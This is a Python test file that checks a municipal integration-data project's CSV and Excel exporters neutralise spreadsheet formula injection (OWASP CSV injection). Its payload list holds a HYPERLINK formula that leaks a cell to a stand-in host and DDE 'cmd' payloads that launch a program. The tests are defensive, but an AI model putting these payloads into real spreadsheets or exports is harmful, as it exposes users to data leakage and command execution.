"""Every download writer neutralises formula text: measures register, scenario, indicators,
chart and table CSVs (OWASP CSV injection). Numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from bielefeld_integration import scenario as sc
from bielefeld_integration.disclosure.export import write_table
from bielefeld_integration.ingest import check_period
from bielefeld_integration.measures.export import register_csv, register_xlsx
from bielefeld_integration.present.display import frame_to_csv

ROOT = Path(__file__).resolve().parents[1]
FORMULAS = [
    '=HYPERLINK("http://example.org/?leak="&A1,"Klick")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(A1)",
    "-1+cmd|' /C calc'!A0",
    "\t=1+1",
]


def _formula_cells(path_or_bytes) -> list[str]:
    wb = openpyxl.load_workbook(
        io.BytesIO(path_or_bytes) if isinstance(path_or_bytes, bytes) else path_or_bytes
    )
    return [
        f"{ws.title}!{c.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def _dangerous_csv_cells(text: str, sep: str) -> list[str]:
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=sep)
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(("=", "+", "@", "\t", "\r"))
        or (cell.startswith("-") and not cell[1:2].isdigit() and cell != "-")
    ]


@pytest.fixture(scope="module")
def register() -> pd.DataFrame:
    _, _, tables = check_period("2017", ROOT / "data" / "raw")
    reg = tables["measures"].head(len(FORMULAS)).copy()
    reg["title"] = FORMULAS[: len(reg)]
    reg["description"] = list(reversed(FORMULAS[: len(reg)]))
    return reg


def test_measures_register_csv_and_xlsx(register):
    assert _dangerous_csv_cells(register_csv(register), ";") == []
    assert _formula_cells(register_xlsx(register)) == []
    text = register_csv(register)
    assert "'=HYPERLINK(" in text


def test_scenario_export_csv_and_xlsx(tmp_path):
    table = pd.DataFrame({"Bedarf": FORMULAS, "Wert": range(len(FORMULAS))})
    out = sc.export(table, tmp_path / "s.csv")
    assert _dangerous_csv_cells(out.read_text(encoding="utf-8"), ";") == []
    xlsx = sc.export(table, tmp_path / "s.xlsx")
    assert _formula_cells(xlsx) == []
    back = pd.read_excel(xlsx)
    assert back["Wert"].tolist() == list(range(len(FORMULAS)))  # numbers stay numbers


def test_indicator_export_csv_and_xlsx(tmp_path):
    table = pd.DataFrame({"title": FORMULAS, "value": [1.5] * len(FORMULAS)})
    out = write_table(table, tmp_path / "i.csv")
    assert _dangerous_csv_cells(out.read_text(encoding="utf-8"), ",") == []
    xlsx = write_table(table, tmp_path / "i.xlsx")
    assert _formula_cells(xlsx) == []
    assert pd.read_excel(xlsx, sheet_name="Indikatoren")["value"].tolist() == [1.5] * 6


def test_chart_and_table_csv():
    text = frame_to_csv(pd.DataFrame({"=Titel": FORMULAS, "Wert": [-1, 2, 3, 4, 5, 6]}))
    assert _dangerous_csv_cells(text, ";") == []
    assert "\n'-1+cmd" in text and ";-1\n" in text  # the number -1 stays a number
